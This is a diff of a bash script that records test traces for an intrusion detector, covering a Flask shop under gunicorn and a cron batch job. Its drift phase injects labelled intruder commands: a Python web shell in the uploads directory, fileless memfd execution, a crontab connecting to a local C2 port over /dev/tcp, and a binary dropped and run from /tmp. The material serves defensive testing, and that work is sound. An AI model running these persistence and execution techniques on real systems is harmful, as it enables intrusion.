+import json, os, time
+from flask import Flask, abort, jsonify, request, send_from_directory
+
+DATA = "$GUNI_DATA"
+UPLOADS = "$GUNI_UPLOADS"
+app = Flask(__name__)
+
+
+@app.route("/")
+def home():
+    return "<html><body>shop</body></html>"
+
+
+@app.route("/api/health")
+def health():
+    return jsonify(ok=True)
+
+
+@app.route("/items/<int:item>")
+def item(item):
+    try:
+        with open(os.path.join(DATA, "items", "%d.json" % item)) as f:
+            return jsonify(json.load(f))
+    except FileNotFoundError:
+        abort(404)
+
+
+@app.route("/upload/<name>", methods=["POST"])
+def upload(name):
+    if not name.replace("-", "").replace(".", "").isalnum():
+        abort(400)
+    with open(os.path.join(UPLOADS, name), "wb") as f:
+        f.write(request.get_data())
+    return jsonify(saved=name)
+
+
+@app.route("/export")
+def export():
+    fmt = request.args.get("fmt", "csv")
+    if fmt not in ("csv", "json"):
+        abort(400)
+    path = os.path.join(DATA, "exports", "export-%d.%s" % (int(time.time()) % 1000, fmt))
+    with open(path, "w") as f:
+        f.write("id,name\n" if fmt == "csv" else "[]\n")
+    return send_from_directory(os.path.join(DATA, "exports"), os.path.basename(path))
+PY
+  cat >"$GUNI_APP/manage.py" <<PY
+"""The application's scheduled job: cleanup of old uploads and exports, and a report."""
+import argparse, glob, json, os, time
+
+DATA = "$GUNI_DATA"
+UPLOADS = "$GUNI_UPLOADS"
+
+parser = argparse.ArgumentParser()
+sub = parser.add_subparsers(dest="cmd", required=True)
+c = sub.add_parser("cleanup")
+c.add_argument("--older-than", type=int, default=60)
+r = sub.add_parser("report")
+r.add_argument("--fmt", choices=["csv", "json"], default="csv")
+r.add_argument("--items", type=int, default=50)
+args = parser.parse_args()
+
+if args.cmd == "cleanup":
+    cutoff = time.time() - args.older_than
+    for path in glob.glob(os.path.join(UPLOADS, "*")) + glob.glob(os.path.join(DATA, "exports", "*")):
+        if os.path.getmtime(path) < cutoff:
+            os.unlink(path)
+else:
+    rows = []
+    for i in range(1, args.items + 1):
+        with open(os.path.join(DATA, "items", "%d.json" % i)) as f:
+            rows.append(json.load(f))
+    out = os.path.join(DATA, "reports", time.strftime("report-%Y%m%d-%H%M%S.") + args.fmt)
+    with open(out, "w") as f:
+        if args.fmt == "json":
+            json.dump(rows, f)
+        else:
+            f.writelines("%(id)s,%(name)s,%(price)s\\n" % row for row in rows)
+PY
+  chown -R www-data:www-data "$GUNI_UPLOADS" "$GUNI_DATA"/{exports,reports} "$GUNI_DIR"/{log,run}
+}
+
+GUNI_PID=
+gunicorn_start() {
+  launch gunicorn www-data /usr/bin/gunicorn --chdir "$GUNI_APP" --bind "127.0.0.1:$GUNICORN_PORT" \
+    --workers 2 --pid "$GUNI_DIR/run/gunicorn.pid" --access-logfile "$GUNI_DIR/log/access.log" \
+    --error-logfile "$GUNI_DIR/log/error.log" app:app
+  GUNI_PID=$LAUNCHED
+  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
+}
+gunicorn_stop() { stop_pid "$GUNI_PID" TERM; }
+
+gunicorn_get() {
+  local c=$1
+  shift
+  printf "http://127.0.0.1:$GUNICORN_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
+}
+GUNI_UPLOAD_SEQ=0
+# gunicorn_upload N [CURL_ARGS...]: N uploads of photo-SEQ.jpg.
+gunicorn_upload() {
+  local n=$1 i
+  shift
+  for i in $(seq 1 "$n"); do
+    GUNI_UPLOAD_SEQ=$((GUNI_UPLOAD_SEQ + 1))
+    head -c 2048 /dev/urandom | curl -s --max-time 5 "$@" --data-binary @- \
+      "http://127.0.0.1:$GUNICORN_PORT/upload/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
+  done
+}
+# Mix A: home, items 1-40, css, js, images 1-10, health, a CSV export, two uploads, a scanner
+# path; 3 clients.
+gunicorn_mix_a() {
+  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=csv /wp-login.php)
+  for i in $(seq 1 40); do paths+=("/items/$i"); done
+  for i in $(seq 1 10); do paths+=("/static/img/$i.png"); done
+  gunicorn_get 3 "${paths[@]}"
+  gunicorn_upload 2
+  curl -s "http://127.0.0.1:$GUNICORN_PORT/static/uploads/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
+}
+# Mix B: items 20-80 (and some that do not exist), images 1-20, exports, more uploads, HEAD;
+# 1 client, then 8.
+gunicorn_mix_b() {
+  local paths=(/ /api/health /static/js/shop.js /export?fmt=csv /admin.php /items/9999)
+  for i in $(seq 20 80); do paths+=("/items/$i"); done
+  for i in $(seq 1 20); do paths+=("/static/img/$i.png"); done
+  gunicorn_get 1 "${paths[@]}"
+  gunicorn_get 8 "${paths[@]}" "${paths[@]}"
+  gunicorn_upload 4
+  curl -s -I "http://127.0.0.1:$GUNICORN_PORT/" >/dev/null
+}
+# gunicorn_job ARGS...: manage.py run as www-data in the cgroup, as its cron entry would.
+gunicorn_job() {
+  launch gunicorn www-data /usr/bin/python3 "$GUNI_APP/manage.py" "$@"
+  wait "$LAUNCHED" || die "manage.py $* failed"
+  forget "$LAUNCHED"
+}
+gunicorn_maintenance() { gunicorn_job cleanup --older-than 60; gunicorn_job report; }
+
+# Held out. Clients from 127.0.0.2-20, items 40-200 (most never requested), images 10-30,
+# JSON exports, more uploads from other clients, 12 at a time; the logs rotated (rename and
+# USR1, as logrotate does for gunicorn); a graceful reload (HUP: new workers) and one more
+# worker (TTIN); the job with other arguments (a JSON report over all items, cleanup of
+# everything).
+gunicorn_heldout_deploy() { :; }
+gunicorn_heldout_mix() {
+  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=json /export?fmt=csv
+               /items/0 /robots.txt)
+  for i in $(seq 40 200); do paths+=("/items/$i"); done
+  for i in $(seq 10 30); do paths+=("/static/img/$i.png"); done
+  local n=0 p
+  for p in "${paths[@]}"; do
+    echo "$((2 + n % 19)) http://127.0.0.1:$GUNICORN_PORT$p"
+    n=$((n + 1))
+  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
+  gunicorn_upload 3 --interface 127.0.0.7
+  gunicorn_upload 3 --interface 127.0.0.12
+}
+gunicorn_heldout_job() {
+  local f
+  for f in access error; do
+    [ -e "$GUNI_DIR/log/$f.log.1" ] && mv "$GUNI_DIR/log/$f.log.1" "$GUNI_DIR/log/$f.log.2"
+    mv "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/$f.log.1"
+  done
+  kill -USR1 "$GUNI_PID"
+  gunicorn_job report --fmt json --items 200
+  gunicorn_job cleanup --older-than 0
+}
+gunicorn_heldout_reload() { kill -HUP "$GUNI_PID"; sleep 2; kill -TTIN "$GUNI_PID"; sleep 1; }
+
+# Held out, second set (heldout2). The release, on the provisioning side: a catalogue import
+# (items 201-400), banners and web fonts, a dark theme stylesheet. Clients from
+# 127.0.0.61-99 for items 150-400 (a different slice each round), missing items, banners,
+# JSON and CSV exports, HEAD; quiet rounds (2 at a time) and busy ones (24); uploads with
+# other names and sizes (avatars, PDFs, CSVs) from 127.0.0.70-75, downloaded back; the logs
+# rotated as logrotate's copytruncate does (copy with a date suffix, truncate, compress, no
+# signal); the job with other arguments (`report --items 350`, `report --fmt json --items
+# 10`, `cleanup --older-than 20`); an operator inside the cgroup checks the configuration
+# (`gunicorn --check-config`), then reloads gracefully and takes a worker away (`kill -HUP`,
+# `kill -TTOU` on the master, as `kubectl exec ... kill` does); the restart is a stop (TERM)
+# and a start.
+gunicorn_heldout2_deploy() {
+  local i
+  for i in $(seq 201 400); do printf '{"id": %d, "name": "imported %d", "price": %d}\n' "$i" "$i" "$((i * 2))" \
+    >"$GUNI_DATA/items/$i.json"; done
+  mkdir -p "$GUNI_APP/static/img/banners" "$GUNI_APP/static/fonts"
+  for i in winter sale new-arrivals; do head -c 8192 /dev/urandom >"$GUNI_APP/static/img/banners/$i.png"; done
+  head -c 16384 /dev/urandom >"$GUNI_APP/static/fonts/inter.woff2"
+  echo "body { background: #111; color: #eee }" >"$GUNI_APP/static/css/theme-dark.css"
+}
+GUNI_HELDOUT2_SEQ=0
+gunicorn_heldout2_mix() {
+  local r=$HELDOUT2_ROUND
+  local paths=(/ /static/css/theme-dark.css /static/fonts/inter.woff2 /static/img/banners/winter.png
+               /static/img/banners/sale.png /static/img/banners/new-arrivals.png /export?fmt=json
+               "/items/$((9000 + r))" /items/401)
+  local i
+  for i in $(seq $((150 + (r * 37) % 200)) 5 400); do paths+=("/items/$i"); done
+  heldout2_get "$GUNICORN_PORT" 24 61 39 1 5 "" "${paths[@]}"
+  local u=http://127.0.0.1:$GUNICORN_PORT name kind size
+  for kind in avatar doc sheet; do
+    GUNI_HELDOUT2_SEQ=$((GUNI_HELDOUT2_SEQ + 1))
+    case $kind in
+      avatar) name=avatar-$GUNI_HELDOUT2_SEQ.png size=512 ;;
+      doc) name=doc-$GUNI_HELDOUT2_SEQ.pdf size=40000 ;;
+      sheet) name=orders-$GUNI_HELDOUT2_SEQ.csv size=3000 ;;
+    esac
+    head -c "$size" /dev/urandom | curl -s --max-time 5 --interface "127.0.0.$((70 + GUNI_HELDOUT2_SEQ % 6))" \
+      --data-binary @- "$u/upload/$name" >/dev/null
+    curl -s --interface 127.0.0.77 "$u/static/uploads/$name" >/dev/null
+  done
+  curl -s --interface 127.0.0.78 -I "$u/items/250" >/dev/null
+  [ $((r % 3)) = 0 ] && curl -s --interface 127.0.0.79 "$u/export?fmt=csv" >/dev/null
+  return 0
+}
+GUNI_HELDOUT2_JOBS=0
+gunicorn_heldout2_job() {
+  GUNI_HELDOUT2_JOBS=$((GUNI_HELDOUT2_JOBS + 1))
+  local f stamp
+  stamp=$(date +%Y%m%d-%H%M%S)
+  for f in access error; do
+    cp "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/$f.log-$stamp"
+    truncate -s 0 "$GUNI_DIR/log/$f.log"
+    gzip "$GUNI_DIR/log/$f.log-$stamp"
+  done
+  if [ $((GUNI_HELDOUT2_JOBS % 2)) = 1 ]; then
+    gunicorn_job report --items 350
+    gunicorn_job cleanup --older-than 20
+  else
+    gunicorn_job report --fmt json --items 10
+  fi
+}
+gunicorn_heldout2_admin() {
+  admin gunicorn www-data /usr/bin/gunicorn --check-config --chdir "$GUNI_APP" app:app
+  admin gunicorn www-data /usr/bin/kill -HUP "$GUNI_PID"
+  sleep 2
+  admin gunicorn www-data /usr/bin/kill -TTOU "$GUNI_PID"
+  sleep 1
+}
+gunicorn_heldout2_restart() { gunicorn_stop; gunicorn_start; }
+
+# The intruder's script as www-data in the served upload directory, then: a web shell
+# written next to the uploads and run by python3, fileless execution (memfd_create and
+# execve of the memfd: fexecve), and a crontab for www-data (crontab -).
+gunicorn_more() {
+  cat <<SH
+printf 'import os\nos.system("id")\n' >$GUNI_UPLOADS/cmd.py
+/usr/bin/python3 $GUNI_UPLOADS/cmd.py >/dev/null
+/usr/bin/python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/usr/bin/id", "rb").read()); os.execve(fd, ["x"], {})' >/dev/null
+echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
+SH
+}
+gunicorn_inject() { inject_shell gunicorn www-data "$GUNI_UPLOADS" "$(gunicorn_more)"; }
+gunicorn_labels() {
+  write_labels gunicorn "$GUNI_UPLOADS" ",
+  {\"kind\": \"file\", \"subject\": \"$GUNI_UPLOADS/cmd.py\", \"what\": \"a python web shell written into the served directory\"},
+  {\"kind\": \"exec\", \"subject\": \"*memfd*\", \"what\": \"fileless execution: id copied into a memfd and executed from it (fexecve)\"},
+  {\"kind\": \"exec\", \"subject\": \"*/python3*\", \"what\": \"the intruder's shell starts python3 (the web shell, the fileless exec)\"},
+  {\"kind\": \"file\", \"subject\": \"/usr/bin/id\", \"required\": false, \"what\": \"python3 reads id to copy it into the memfd\"},
+  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
+  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for www-data (persistence)\"},
+  {\"kind\": \"file\", \"subject\": \"/usr/lib/python3*\", \"required\": false, \"what\": \"modules python3 loads for the web shell and the fileless exec\"},
+  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
+  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}"
+}
+
+
+# --- batch --------------------------------------------------------------------------------
+
+BATCH_DIR=$WORK/batch
+BATCH_SPOOL=$BATCH_DIR/spool
+
+# A cron-driven batch job: bin/process.sh (root-owned) runs as backup in the cgroup
+# dw-eval/batch every round (a loop standing in for cron starts it, outside the cgroup). It
+# processes the CSV files an upstream system dropped into spool/incoming (sort, awk totals
+# into out/<day>/), archives the inputs (tar.gz in spool/archive), and rotates its own log
+# (job.log -> job.log.1 -> job.log.2.gz ..., keeping --keep N generations, 3 by default).
+# bin/cleanup.sh prunes old archives and outputs.
+batch_provision() {
+  rm -rf "$BATCH_DIR"
+  mkdir -p "$BATCH_DIR/bin" "$BATCH_SPOOL"/{incoming,archive,work} "$BATCH_DIR"/{out,log}
+  cat >"$BATCH_DIR/bin/process.sh" <<'SH'
+#!/bin/sh
+# process.sh [--day YYYYMMDD] [--keep N]: totals per customer of every CSV in spool/incoming.
+set -eu
+base=$(dirname "$0")/..
+day=$(date +%Y%m%d)
+keep=3
+while [ $# -gt 0 ]; do
+  case $1 in
+    --day) day=$2; shift 2 ;;
+    --keep) keep=$2; shift 2 ;;
+    *) echo "process.sh: unknown argument $1" >&2; exit 2 ;;
+  esac
+done
+log=$base/log/job.log
+echo "$(date -u +%FT%TZ) start day=$day" >>"$log"
+mkdir -p "$base/out/$day"
+n=0
+for f in "$base"/spool/incoming/*.csv; do
+  [ -e "$f" ] || continue
+  name=$(basename "$f" .csv)
+  sort -t, -k1,1 "$f" | awk -F, '{ t[$1] += $2 } END { for (c in t) print c "," t[c] }' \
+    >"$base/spool/work/$name.tmp"
+  mv "$base/spool/work/$name.tmp" "$base/out/$day/$name.totals"
+  echo "$(date -u +%FT%TZ) $name rows=$(wc -l <"$f")" >>"$log"
+  mv "$f" "$base/spool/work/"
+  n=$((n + 1))
+done
+if [ "$n" -gt 0 ]; then
+  tar -czf "$base/spool/archive/inputs-$(date +%H%M%S).tar.gz" -C "$base/spool/work" .
+  find "$base/spool/work" -name '*.csv' -delete
+fi
+echo "$(date -u +%FT%TZ) done files=$n" >>"$log"
+# Rotation: job.log.N.gz shifts up, job.log.1 is compressed, job.log becomes job.log.1.
+if [ "$(wc -c <"$log")" -gt 1000 ]; then
+  i=$keep
+  rm -f "$log.$i.gz"
+  while [ "$i" -gt 2 ]; do
+    [ -e "$log.$((i - 1)).gz" ] && mv "$log.$((i - 1)).gz" "$log.$i.gz"
+    i=$((i - 1))
+  done
+  [ -e "$log.1" ] && gzip -c "$log.1" >"$log.2.gz" && rm "$log.1"
+  mv "$log" "$log.1"
+fi
+SH
+  cat >"$BATCH_DIR/bin/cleanup.sh" <<'SH'
+#!/bin/sh
+# cleanup.sh [--max-archives N]: keeps the newest N input archives (default 5).
+set -eu
+base=$(dirname "$0")/..
+max=5
+[ "${1:-}" = --max-archives ] && max=$2
+ls -1t "$base"/spool/archive/*.tar.gz 2>/dev/null | tail -n +"$((max + 1))" | while read -r f; do rm -f "$f"; done
+find "$base/out" -name '*.totals' -mmin +60 -delete
+du -s "$base/spool" "$base/out" >/dev/null
+SH
+  chmod 755 "$BATCH_DIR/bin"/*.sh
+  # A job that has run before: its log has been rotated (kept: job.log.1, .2.gz, .3.gz).
+  local g
+  for g in 1 2 3; do
+    printf '%s start day=%s\n' "2026-01-0${g}T02:00:00Z" "2026010$g" >"$BATCH_DIR/log/job.log.$g"
+    [ "$g" = 1 ] || gzip "$BATCH_DIR/log/job.log.$g"
+  done
+  chown -R backup:backup "$BATCH_SPOOL" "$BATCH_DIR"/{out,log}
+}
+
+# The scheduler: batch_start and batch_stop stand for the cron daemon being (re)started; the
+# job itself starts each round.
+batch_start() { :; }
+batch_stop() { :; }
+
+BATCH_PERIOD=${BATCH_PERIOD:-15}   # seconds between runs of the job (with the rounds' own 2 s)
+BATCH_SEQ=0
+# batch_feed FEED COUNT ROWS: the upstream system drops COUNT files FEED-SEQ.csv of ROWS rows.
+batch_feed() {
+  local i
+  for i in $(seq 1 "$2"); do
+    BATCH_SEQ=$((BATCH_SEQ + 1))
+    awk -v n="$3" -v s="$BATCH_SEQ" 'BEGIN { srand(s); for (i = 0; i < n; i++) printf "c%03d,%d\n", int(rand() * 200), int(rand() * 1000) }' \
+      >"$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
+    chown backup:backup "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
+    mv "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part" "$BATCH_SPOOL/incoming/$1-$BATCH_SEQ.csv"
+  done
+}
+# batch_job SCRIPT ARGS...: one run of a job as backup in the cgroup, as cron starts it.
+batch_job() {
+  launch batch backup /bin/sh "$BATCH_DIR/bin/$1" "${@:2}"
+  wait "$LAUNCHED" || die "batch job $* failed"
+  forget "$LAUNCHED"
+}
+# Mix A: three order files of 200 rows, then the job; the next run BATCH_PERIOD s later.
+batch_mix_a() { batch_feed orders 3 200; batch_job process.sh; sleep "$BATCH_PERIOD"; }
+# Mix B: orders and returns, up to eight files of 500 rows, the job; and a run with nothing
+# to do.
+batch_mix_b() {
+  batch_feed orders 4 500
+  batch_feed returns 4 500
+  batch_job process.sh
+  batch_job process.sh
+  sleep "$BATCH_PERIOD"
+}
+# Scheduled job: the weekly clean-up, here every MAINT_SECONDS.
+batch_maintenance() { batch_job cleanup.sh; }
+
+# Held out. Feeds never seen (refunds, invoices) and bigger files; a backfill of another day
+# (--day: a new out/<day> directory); more log generations kept (--keep 6, so job.log.4.gz
+# and later appear as the bigger runs rotate the log); the clean-up with another argument.
+batch_heldout_deploy() { :; }
+BATCH_HELDOUT_ROUND=0
+batch_heldout_mix() {
+  BATCH_HELDOUT_ROUND=$((BATCH_HELDOUT_ROUND + 1))
+  batch_feed orders 2 300
+  batch_feed refunds 2 100
+  [ $((BATCH_HELDOUT_ROUND % 3)) = 0 ] && batch_feed invoices 5 2000
+  batch_job process.sh --keep 6
+  if [ $((BATCH_HELDOUT_ROUND % 4)) = 0 ]; then
+    batch_feed orders 3 300
+    batch_job process.sh --day "$(date -d "-$((BATCH_HELDOUT_ROUND / 4)) day" +%Y%m%d)" --keep 6
+  fi
+  sleep "$BATCH_PERIOD"
+}
+batch_heldout_job() { batch_job cleanup.sh --max-archives 2; }
+
+# Held out, second set (heldout2). Other input sets: payments (one to three files of 50 to
+# 5000 rows), a small chargebacks feed, every fourth run an empty orders file from an
+# upstream with nothing to send, at irregular intervals (4-12 s apart); the job with other
+# arguments (--keep 2, fewer log generations; every third run the month-end rerun
+# `--day 20261130`, an older out/<day>/); the clean-up with its default and with
+# --max-archives 8; an operator inside the cgroup (as backup) lists the archives, lists one
+# (`tar -tzf`), reads the rotated log (`zcat`, `tail`), measures the outputs (`du -sh`) and
+# re-queues the newest archive for reprocessing (`tar -xzf` into spool/incoming), which the
+# next run picks up.
+batch_heldout2_deploy() { :; }
+batch_heldout2_mix() {
+  local r=$HELDOUT2_ROUND
+  batch_feed payments $((1 + r % 3)) $(((r * 1237) % 5000 + 50))
+  [ $((r % 2)) = 0 ] && batch_feed chargebacks 1 20
+  [ $((r % 4)) = 3 ] && batch_feed orders 1 0
+  if [ $((r % 3)) = 0 ]; then
+    batch_job process.sh --keep 2 --day 20261130
+  else
+    batch_job process.sh --keep 2
+  fi
+  sleep $((3 + (r * 5) % 7))
+}
+BATCH_HELDOUT2_JOBS=0
+batch_heldout2_job() {
+  BATCH_HELDOUT2_JOBS=$((BATCH_HELDOUT2_JOBS + 1))
+  if [ $((BATCH_HELDOUT2_JOBS % 2)) = 1 ]; then batch_job cleanup.sh; else batch_job cleanup.sh --max-archives 8; fi
+}
+batch_heldout2_admin() {
+  local newest
+  newest=$(ls -1t "$BATCH_SPOOL"/archive/*.tar.gz | head -n 1)
+  admin batch backup /bin/ls -l "$BATCH_SPOOL/archive"
+  admin batch backup /bin/tar -tzf "$newest"
+  [ -e "$BATCH_DIR/log/job.log.2.gz" ] && admin batch backup /bin/zcat "$BATCH_DIR/log/job.log.2.gz"
+  admin batch backup /usr/bin/tail -n 20 "$BATCH_DIR/log/job.log.1"
+  admin batch backup /usr/bin/du -sh "$BATCH_DIR/out"
+  admin batch backup /bin/tar -xzf "$newest" -C "$BATCH_SPOOL/incoming" --wildcards '*.csv'
+}
+batch_heldout2_restart() { batch_stop; batch_start; }
+
+# The intruder's script as backup in the spool, then: a crontab for backup (crontab -), and
+# a download-and-execute from /tmp.
+batch_more() {
+  cat <<SH
+echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
+cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
+SH
+}
+batch_inject() { inject_shell batch backup "$BATCH_SPOOL" "$(batch_more)"; }
+batch_labels() {
+  write_labels batch "$BATCH_SPOOL" ",
+  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
+  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for backup (persistence)\"},
+  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
+  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
+  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
+  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
+  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"},
+  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
+  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}" shell-known
+}
+
+
+# --- the recordings -----------------------------------------------------------------------
+
+# traffic SECONDS MIX [MAINTENANCE [EVERY]]: runs the server's traffic mix MIX in rounds for
+# SECONDS, and MAINTENANCE (a scheduled job of the server) every EVERY seconds (default
+# MAINT_SECONDS).
+traffic() {
+  local every=${4:-$MAINT_SECONDS}
+  local end=$((SECONDS + $1)) next=$((SECONDS + every))
+  while [ "$SECONDS" -lt "$end" ]; do
+    "$2"
+    if [ -n "${3:-}" ] && [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + every)); fi
+    sleep 2
+  done
+}
+
+# traffic2 SECONDS MIX JOB: like traffic, for heldout2: HELDOUT2_ROUND counts the rounds (the
+# mixes alternate quiet and busy rounds with it), JOB runs every HELDOUT2_MAINT_SECONDS, and
+# the pause between rounds is irregular (1-3 s).
+HELDOUT2_ROUND=0
+traffic2() {
+  local end=$((SECONDS + $1)) next=$((SECONDS + HELDOUT2_MAINT_SECONDS))
+  while [ "$SECONDS" -lt "$end" ]; do
+    HELDOUT2_ROUND=$((HELDOUT2_ROUND + 1))
+    "$2"
+    if [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + HELDOUT2_MAINT_SECONDS)); fi
+    sleep $((1 + RANDOM % 3))
+  done
+}
+
+# heldout2_get PORT BUSY FIRST COUNT NSTRIDE RSTRIDE CURL_OPT PATH...: GETs the paths from
+# 127.0.0.1:PORT, 2 at a time in odd rounds and BUSY at a time in even ones, the n-th from the
+# source address 127.0.0.(FIRST + (n * NSTRIDE + round * RSTRIDE) % COUNT); CURL_OPT is one
+# more curl option, or "".
+heldout2_get() {
+  local port=$1 busy=$2 first=$3 count=$4 nstride=$5 rstride=$6 opt=$7 c=2 n=0 p
+  shift 7
+  [ $((HELDOUT2_ROUND % 2)) = 0 ] && c=$busy
+  for p in "$@"; do
+    echo "$((first + (n * nstride + HELDOUT2_ROUND * rstride) % count)) http://127.0.0.1:$port$p"
+    n=$((n + 1))
+  done | xargs -P "$c" -n 2 sh -c 'curl -s $0 --max-time 5 --interface "127.0.0.$1" "$2" >/dev/null' "$opt"
+}
+
+# The server's scheduled job, if it has one: training covers what production runs on a
+# timer, or every run of the job in production would look new.
+maintenance_of() { if declare -F "$1_maintenance" >/dev/null; then echo "$1_maintenance"; fi; }
+
+record_server() {
+  local s=$1
+  mkdir -p "$CG_MOUNT/$CG_BASE/$s"
+  if want_phase train || want_phase normal || want_phase drift; then
+    say "$s: provisioning $WORK/$s"
+    "${s}_provision"
+  fi
+
+  if want_phase train; then
+    say "$s: train, ${TRAIN_SECONDS}s (start, mix A, restart, mix A, stop)"
+    rec_start "$s" train
+    "${s}_start"
+    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
+    "${s}_stop"
+    "${s}_start"
+    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
+    "${s}_stop"
+    rec_stop
+  fi
+
+  if want_phase normal; then
+    say "$s: normal, ${NORMAL_SECONDS}s (mix B, restart, mix B)"
+    "${s}_start"
+    rec_start "$s" normal
+    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
+    "${s}_stop"
+    "${s}_start"
+    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
+    rec_stop
+    "${s}_stop"
+  fi
+
+  if want_phase drift; then
+    say "$s: drift, ${DRIFT_SECONDS}s (mix A, intrusion, mix A)"
+    start_peer "$C2_PORT"
+    "${s}_start"
+    rec_start "$s" drift
+    traffic 15 "${s}_mix_a"
+    "${s}_inject"
+    traffic $((DRIFT_SECONDS - 15)) "${s}_mix_a"
+    rec_stop
+    "${s}_stop"
+    "${s}_labels"
+  fi
+
+  if want_phase heldout; then
+    say "$s: heldout, ${HELDOUT_SECONDS}s (redeploy, held-out variation, restart, more of it)"
+    "${s}_provision"
+    "${s}_start"
+    rec_start "$s" heldout
+    "${s}_heldout_deploy"
+    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
+    "${s}_stop"
+    "${s}_start"
+    if declare -F "${s}_heldout_reload" >/dev/null; then "${s}_heldout_reload"; fi
+    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
+    rec_stop
+    "${s}_stop"
+  fi
+
+  if want_phase heldout2; then
+    # A batch round includes the wait for the next run, and each part ends with a run in
+    # progress: 15 s less keeps its trace as long as the others.
+    local len=$HELDOUT2_SECONDS
+    [ "$s" = batch ] && len=$((HELDOUT2_SECONDS - 15))
+    say "$s: heldout2, ${len}s (redeploy with a release, variation, operator and reload, restart)"
+    local t1=$((len * 35 / 100)) t2=$((len * 30 / 100))
+    HELDOUT2_ROUND=0
+    "${s}_provision"
+    "${s}_heldout2_deploy"
+    "${s}_start"
+    rec_start "$s" heldout2
+    local t0=$SECONDS
+    traffic2 "$t1" "${s}_heldout2_mix" "${s}_heldout2_job"
+    "${s}_heldout2_admin"
+    traffic2 "$t2" "${s}_heldout2_mix" "${s}_heldout2_job"
+    "${s}_heldout2_restart"
+    traffic2 $((len - t1 - t2)) "${s}_heldout2_mix" "${s}_heldout2_job"
+    echo "record-testdata: $s: heldout2 recorded for $((SECONDS - t0)) s, $HELDOUT2_ROUND rounds" >&2
+    rec_stop
+    "${s}_stop"
+  fi
+}
+
+# --- main ---------------------------------------------------------------------------------
+
+say "installing the servers and load generators"
+install_packages
+[ -x "$DW" ] && [ -x "$WORKLOAD_BIN" ] || BUILD_DIR=$BUILD_DIR bash tools/scripts/build.sh >/dev/null
+for port in $NGINX_PORT $REDIS_PORT $PG_PORT $C2_PORT $BIND_PORT $ROGUE_PORT $HAPROXY_PORT \
+    $HAPROXY_STATS_PORT "${BACKEND_PORTS[@]}" $GUNICORN_PORT $((PG_RELAY_PORT + 5)) \
+    $((PG_RELAY_PORT + 9)) $((PG_RELAY_PORT + 17)); do
+  if ss -Hltn "sport = :$port" | grep -q .; then die "port $port is in use"; fi
+done
+rm -rf "$WORK"
+mkdir -p "$WORK"
+chmod 755 "$WORK"
+for s in "${SERVERS[@]}"; do
+  record_server "$s"
+  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
+  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null || true; done
+  PIDS=()
+  BACKEND_PIDS=("" "" "")
+  remove_intruder_leftovers
+  ls -l "testdata/$s" >&2
+done
